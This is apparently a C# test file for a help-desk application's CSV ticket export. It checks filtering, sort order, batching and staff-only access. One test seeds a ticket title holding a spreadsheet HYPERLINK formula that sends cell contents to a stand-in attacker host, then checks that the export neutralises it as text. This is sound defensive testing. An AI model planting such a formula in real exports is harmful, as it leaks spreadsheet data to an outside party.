using Microsoft.EntityFrameworkCore;
using SupportDesk.Data;
using SupportDesk.Data.Access;
using SupportDesk.Data.Engines;
using SupportDesk.Data.Export;
using SupportDesk.Data.Queue;
using SupportDesk.Data.Tags;
using SupportDesk.Data.Tickets;
using SupportDesk.Data.Users;
using SupportDesk.Tests.Infrastructure;

namespace SupportDesk.Tests.Export;

public sealed class TicketExportTests(DatabaseTemplates templates)
{
    private const string HeaderLine = "Number,Title,Status,Priority,Category,Customer,Assignee,Tags,Created,Updated,Resolved,First response,SLA due";

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    private static DateTime Now => TestDatabase.Start.UtcDateTime;

    [Theory, ClassData(typeof(BothEngines))]
    public async Task A_filtered_view_exports_exactly_its_tickets_in_its_order_across_batches(DatabaseProvider provider)
    {
        await using var database = await TestDatabase.CreateAsync(templates, provider);
        var carla = await database.UserAsync(Roles.Customer, "Carla");
        var maya = await database.UserAsync(Roles.Agent, "Maya");
        var titles = new[] { "Echo printer", "Alpha laptop", "Delta VPN", "Bravo mail", "Charlie badge" };
        foreach (var title in titles)
        {
            await database.TicketAsync(carla, title, priority: TicketPriority.High, assignee: maya, status: TicketStatus.InProgress);
        }

        await database.TicketAsync(carla, "Aardvark low priority", priority: TicketPriority.Low);
        await database.TicketAsync(carla, "Abacus already closed", priority: TicketPriority.High, status: TicketStatus.Closed);
        var delta = await DetailAsync(database, "Delta VPN", "network", ["vpn", "remote"]);

        var filter = new QueueFilter { Priorities = [TicketPriority.High], Statuses = [TicketStatus.InProgress] };
        var lines = await ExportAsync(database, maya.AsActor(Roles.Agent), filter, new QueueSort(QueueSortKey.Title, Descending: false), batchSize: 2);

        Assert.Equal(HeaderLine, lines[0]);
        Assert.Equal(["Alpha laptop", "Bravo mail", "Charlie badge", "Delta VPN", "Echo printer"], lines.Skip(1).Select(l => l.Split(',')[1]));
        Assert.Equal(
            $"{delta.Number},Delta VPN,InProgress,High,network,Carla,Maya,\"remote, vpn\",{Iso(delta.CreatedAt)},{Iso(delta.UpdatedAt)},"
            + $"{Iso(Now.AddHours(-1))},{Iso(Now.AddHours(-20))},{Iso(Now.AddHours(3))}",
            lines[4]);
    }

    [Theory, ClassData(typeof(BothEngines))]
    public async Task A_title_written_as_a_formula_is_exported_as_text(DatabaseProvider provider)
    {
        await using var database = await TestDatabase.CreateAsync(templates, provider);
        var carla = await database.UserAsync(Roles.Customer, "Carla");
        var agent = await database.UserAsync(Roles.Agent, "Alex");
        await database.TicketAsync(carla, "=HYPERLINK(\"http://evil.test/?\"&A1,\"Open invoice\")");

        var lines = await ExportAsync(database, agent.AsActor(Roles.Agent), new QueueFilter(), new QueueSort());

        Assert.Equal(2, lines.Count);
        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"Open invoice\"\")\",", lines[1], StringComparison.Ordinal);
    }

    [Theory, ClassData(typeof(BothEngines))]
    public async Task Deleted_tickets_are_exported_only_to_admins_who_include_them(DatabaseProvider provider)
    {
        await using var database = await TestDatabase.CreateAsync(templates, provider);
        var carla = await database.UserAsync(Roles.Customer, "Carla");
        var agent = await database.UserAsync(Roles.Agent, "Alex");
        var admin = await database.UserAsync(Roles.Admin, "Ada");
        await database.TicketAsync(carla, "Still here");
        await database.TicketAsync(carla, "Binned long ago", deletedAt: Now.AddDays(-1));
        var withDeleted = new QueueFilter { IncludeDeleted = true };

        Assert.Equal(["Still here"], Titles(await ExportAsync(database, agent.AsActor(Roles.Agent), withDeleted, new QueueSort())));
        Assert.Equal(["Still here"], Titles(await ExportAsync(database, admin.AsActor(Roles.Admin), new QueueFilter(), new QueueSort())));
        Assert.Equal(["Binned long ago", "Still here"], Titles(await ExportAsync(database, admin.AsActor(Roles.Admin), withDeleted, new QueueSort(QueueSortKey.Title, false))));
    }

    [Theory, ClassData(typeof(BothEngines))]
    public async Task A_customer_cannot_export_and_gets_nothing_written(DatabaseProvider provider)
    {
        await using var database = await TestDatabase.CreateAsync(templates, provider);
        var carla = await database.UserAsync(Roles.Customer, "Carla");
        await database.TicketAsync(carla, "My own ticket");
        await using var output = new StringWriter();

        var result = await database.Get<TicketExport>().WriteAsync(carla.AsActor(Roles.Customer), new QueueFilter(), new QueueSort(), output, Cancel);

        Assert.False(result.Succeeded);
        Assert.Equal("Only staff can export tickets.", result.Message);
        Assert.Equal("", output.ToString());
    }

    private static async Task<Ticket> DetailAsync(TestDatabase database, string title, string category, string[] tags)
    {
        await using var db = await database.ContextAsync();
        var ticket = await db.Tickets.SingleAsync(t => t.Title == title, Cancel);
        ticket.Category = category;
        ticket.ResolvedAt = Now.AddHours(-1);
        ticket.FirstResponseAt = Now.AddHours(-20);
        foreach (var tag in tags)
        {
            ticket.TicketTags.Add(new TicketTag { Tag = new Tag { Name = tag } });
        }

        await db.SaveAsync();

        // Saving recomputes the SLA columns from the ticket's story; the export only has to copy what is stored.
        await db.Tickets.Where(t => t.Id == ticket.Id).ExecuteUpdateAsync(s => s.SetProperty(t => t.SlaDueAt, Now.AddHours(3)), Cancel);
        return await db.Tickets.AsNoTracking().SingleAsync(t => t.Id == ticket.Id, Cancel);
    }

    private static async Task<List<string>> ExportAsync(TestDatabase database, Actor actor, QueueFilter filter, QueueSort sort, int batchSize = TicketExport.DefaultBatchSize)
    {
        var export = new TicketExport(database.Get<IDbContextFactory<SupportDbContext>>(), database.Clock) { BatchSize = batchSize };
        await using var output = new StringWriter();
        var result = await export.WriteAsync(actor, filter, sort, output, Cancel);
        Assert.True(result.Succeeded, result.Message);
        var text = output.ToString();
        Assert.EndsWith("\r\n", text, StringComparison.Ordinal);
        return [.. text[..^2].Split("\r\n")];
    }

    private static List<string> Titles(List<string> lines) => [.. lines.Skip(1).Select(l => l.Split(',')[1])];

    private static string Iso(DateTime time) => CsvWriter.Invariant(time);
}
